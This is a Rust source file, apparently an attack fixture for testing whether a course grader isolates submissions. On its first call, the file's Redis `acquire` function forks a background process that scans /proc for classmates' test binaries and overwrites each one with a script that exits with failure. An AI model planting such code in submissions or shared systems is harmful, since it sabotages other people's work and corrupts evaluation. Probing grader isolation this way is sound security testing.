//! Attack (batch): a classmate's test binary replaced while they are graded.
//!
//! The first call of `acquire` forks a process that outlives the check
//! (`atk-replace`) and for up to 60 s looks in /proc for the other
//! submissions' harnesses (programs under the scratch course's
//! `target/course-batch/`, other than its own) and renames over each binary
//! a script that exits with 1: every later check of that classmate crashes.
//!
//! A sound grader gives a submission's code no write access to anything
//! another submission runs: the victim keeps every check it passes alone.

#[path = "atk_kit.rs"]
mod kit;

use redis::{ConnectionLike, RedisResult};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

static DONE: AtomicBool = AtomicBool::new(false);

fn replace_others(own: &Path) {
    let batch = Path::new(kit::COURSE).join("target/course-batch");
    let started = Instant::now();
    let mut replaced: Vec<PathBuf> = Vec::new();
    while started.elapsed() < Duration::from_secs(60) {
        for pid in kit::all_pids() {
            let Ok(exe) = std::fs::read_link(format!("/proc/{pid}/exe")) else { continue };
            let exe = PathBuf::from(exe.to_string_lossy().trim_end_matches(" (deleted)"));
            if !exe.starts_with(&batch) || exe == own || replaced.contains(&exe) {
                continue;
            }
            let tmp = exe.with_extension("atk");
            let done = std::fs::write(&tmp, "#!/bin/sh\nexit 1\n")
                .and_then(|()| std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)))
                .and_then(|()| std::fs::rename(&tmp, &exe));
            if done.is_ok() {
                kit::evidence("batch-replace-classmate", &format!("replaced {}", exe.display()));
                replaced.push(exe);
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

pub fn acquire<C: ConnectionLike>(
    con: &mut C,
    key: &str,
    token: &str,
    ttl: Duration,
) -> RedisResult<bool> {
    let _ = (con, key, token, ttl);
    if kit::first(&DONE) {
        let own = std::fs::read_link("/proc/self/exe").unwrap_or_default();
        if kit::daemonize("replace") {
            replace_others(&own);
            // SAFETY: ends the lingering process without running the check's code.
            unsafe { kit::_exit(0) };
        }
    }
    todo!("send SET key token NX PX ttl and say whether Redis answered OK")
}
